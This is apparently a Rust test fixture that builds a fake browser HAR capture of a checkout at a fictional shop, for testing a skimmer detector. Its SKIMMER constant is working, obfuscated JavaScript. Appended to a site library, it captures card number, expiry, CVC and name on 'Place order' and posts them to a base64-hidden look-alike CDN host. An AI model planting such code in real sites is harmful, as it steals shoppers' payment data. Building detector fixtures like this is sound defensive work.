//! A hand-built HAR capture of a customer's visit to a small shop ("Juniper & Rye"), as
//! Chromium's devtools save one: the home page, the checkout with its response headers, a
//! first-party helper library with a skimmer appended (stored base64, as devtools stores some
//! bodies), a reviews widget whose body the capture lacks, a chat widget the page's code loads
//! at run time, and a same-site payment frame. The skimmer is ours, written for these tests.
#![allow(dead_code)]

use base64::Engine as _;
use serde_json::{Value, json};

pub const LIBRARY_CLEAN: &str = r#"/*! juniper-ui 2.3.1 | (c) Juniper & Rye */
!function(w,d){"use strict";var J=w.JuniperUI={};J.qs=function(s,r){return(r||d).querySelector(s)};
J.on=function(el,ev,fn){el&&el.addEventListener(ev,fn,false)};J.money=function(c){return"$"+(c/100).toFixed(2)};
J.ready=function(fn){d.readyState!=="loading"?fn():d.addEventListener("DOMContentLoaded",fn)};
J.ready(function(){var t=J.qs("[data-cart-total]");t&&(t.textContent=J.money(+t.getAttribute("data-cart-total")))})}(window,document);
"#;

/// Appended to the library by the attacker: reads the card fields when the customer presses
/// "Place order" and posts them to a look-alike CDN host hidden in base64.
pub const SKIMMER: &str = r#"
;(function(){var k="aHR0cHM6Ly9zdGF0aWMtanF1ZXJ5LWNkbi5leGFtcGxlL2NvbGxlY3Q=";
function v(i){var e=document.getElementById(i);return e?e.value:""}
document.addEventListener("click",function(ev){if(!ev.target||ev.target.id!=="place-order")return;
var p={num:v("card-number"),exp:v("card-expiry"),cvc:v("card-cvc"),name:v("card-name")};
fetch(atob(k),{method:"POST",mode:"no-cors",body:JSON.stringify(p)})},true)})();
"#;

pub const CHAT_WIDGET: &str = r#"/* Rye chat widget 1.4 */
(function(){var b=document.createElement("button");b.className="chat-bubble";b.textContent="Chat with us";
b.onclick=function(){window.open("/help/chat","chat","width=380,height=560")};document.body.appendChild(b)})();
"#;

pub const FRAME_JS: &str = r#"document.getElementById("save-card").addEventListener("change",function(e){
  document.body.classList.toggle("saving",e.target.checked)});
"#;

pub fn home(origin: &str) -> String {
    format!(
        r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Juniper &amp; Rye — outdoor wear</title>
<script src="{origin}/static/js/juniper-ui.min.js"></script></head>
<body><h1>Waxed canvas jacket</h1><p data-cart-total="18900">$189.00</p>
<a href="/checkout/">Checkout</a></body></html>"#
    )
}

pub fn checkout() -> String {
    r#"<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Checkout — Juniper &amp; Rye</title>
<script src="/static/js/juniper-ui.min.js"></script>
<script src="/static/js/reviews.js" defer></script>
<script>window.addEventListener("load",function(){var s=document.createElement("script");
s.src="/static/js/chat-widget.js";document.body.appendChild(s)});</script>
</head><body><h1>Checkout</h1>
<form id="checkout" action="/checkout/place" method="post">
<label>Name on card <input id="card-name" name="cc_name" autocomplete="cc-name"></label>
<label>Card number <input id="card-number" name="cc_number" autocomplete="cc-number"></label>
<label>Expiry <input id="card-expiry" name="cc_exp" autocomplete="cc-exp"></label>
<label>CVC <input id="card-cvc" name="cc_cvc" autocomplete="cc-csc"></label>
<button id="place-order" type="submit">Place order</button></form>
<iframe src="/checkout/payment-frame.html" title="saved cards"></iframe>
</body></html>"#
        .to_string()
}

pub fn frame() -> String {
    r#"<!doctype html><html><head><meta charset="utf-8"><title>Saved cards</title>
<script src="/static/js/frame.js"></script></head>
<body><label><input type="checkbox" id="save-card"> Save this card</label></body></html>"#
        .to_string()
}

fn entry(
    pageref: &str,
    url: &str,
    resource: &str,
    mime: &str,
    headers: Value,
    content: Value,
) -> Value {
    json!({
        "pageref": pageref,
        "startedDateTime": "2026-11-20T10:00:00.000Z",
        "time": 20.1,
        "request": {"method": "GET", "url": url, "httpVersion": "h2", "headers": [],
                    "queryString": [], "cookies": [], "headersSize": -1, "bodySize": 0},
        "response": {"status": 200, "statusText": "", "httpVersion": "h2", "headers": headers,
                     "cookies": [], "content": content, "redirectURL": "", "headersSize": -1,
                     "bodySize": -1},
        "cache": {},
        "timings": {"send": 0.1, "wait": 15.0, "receive": 5.0},
        "_resourceType": resource,
        "_mimeTypeHint": mime
    })
}

fn text(mime: &str, body: &str) -> Value {
    json!({"size": body.len(), "mimeType": mime, "text": body})
}

fn b64(mime: &str, body: &str) -> Value {
    json!({"size": body.len(), "mimeType": mime,
           "text": base64::engine::general_purpose::STANDARD.encode(body), "encoding": "base64"})
}

pub const CSP: &str = "default-src 'self'; script-src 'self'; connect-src 'self'";

/// The capture of a visit to `origin` (e.g. `http://shop.example:8443`). With `skimmed`, the
/// library carries the skimmer; the reviews widget's body is always missing.
pub fn shop_visit(origin: &str, skimmed: bool) -> Value {
    let html_headers = |csp: bool| {
        let mut h = vec![
            json!({"name": "content-type", "value": "text/html; charset=utf-8"}),
            json!({"name": "x-frame-options", "value": "SAMEORIGIN"}),
            json!({"name": "set-cookie", "value": "session=81723abc; Path=/; Secure; HttpOnly"}),
        ];
        if csp {
            h.push(json!({"name": "content-security-policy", "value": CSP}));
        }
        Value::Array(h)
    };
    let js_headers = json!([{"name": "content-type", "value": "application/javascript"}]);
    let library = if skimmed {
        format!("{LIBRARY_CLEAN}{SKIMMER}")
    } else {
        LIBRARY_CLEAN.to_string()
    };
    let entries = vec![
        entry(
            "page_1",
            &format!("{origin}/"),
            "document",
            "text/html",
            html_headers(false),
            text("text/html", &home(origin)),
        ),
        entry(
            "page_1",
            &format!("{origin}/static/js/juniper-ui.min.js"),
            "script",
            "application/javascript",
            js_headers.clone(),
            b64("application/javascript", &library),
        ),
        entry(
            "page_2",
            &format!("{origin}/checkout/"),
            "document",
            "text/html",
            html_headers(true),
            text("text/html", &checkout()),
        ),
        // Saved without its body (devtools had evicted it): the scan must say it did not see it.
        entry(
            "page_2",
            &format!("{origin}/static/js/reviews.js"),
            "script",
            "application/javascript",
            js_headers.clone(),
            json!({"size": 4096, "mimeType": "application/javascript"}),
        ),
        entry(
            "page_2",
            &format!("{origin}/checkout/payment-frame.html"),
            "document",
            "text/html",
            html_headers(false),
            text("text/html", &frame()),
        ),
        entry(
            "page_2",
            &format!("{origin}/static/js/frame.js"),
            "script",
            "application/javascript",
            js_headers.clone(),
            text("application/javascript", FRAME_JS),
        ),
        entry(
            "page_2",
            &format!("{origin}/static/js/chat-widget.js"),
            "script",
            "application/javascript",
            js_headers.clone(),
            text("application/javascript", CHAT_WIDGET),
        ),
        // Not a page or a script: the scan ignores it.
        entry(
            "page_2",
            &format!("{origin}/api/cart"),
            "fetch",
            "application/json",
            json!([]),
            text("application/json", "{\"items\":1}"),
        ),
    ];
    json!({"log": {
        "version": "1.2",
        "creator": {"name": "WebInspector", "version": "537.36"},
        "pages": [
            {"startedDateTime": "2026-11-20T10:00:00.000Z", "id": "page_1", "title": format!("{origin}/"), "pageTimings": {}},
            {"startedDateTime": "2026-11-20T10:00:05.000Z", "id": "page_2", "title": format!("{origin}/checkout/"), "pageTimings": {}}
        ],
        "entries": entries
    }})
}

/// Write a capture to `dir/name` and return its path as a string.
pub fn write(dir: &std::path::Path, name: &str, har: &Value) -> String {
    let p = dir.join(name);
    std::fs::write(&p, serde_json::to_vec_pretty(har).unwrap()).unwrap();
    p.to_string_lossy().into_owned()
}
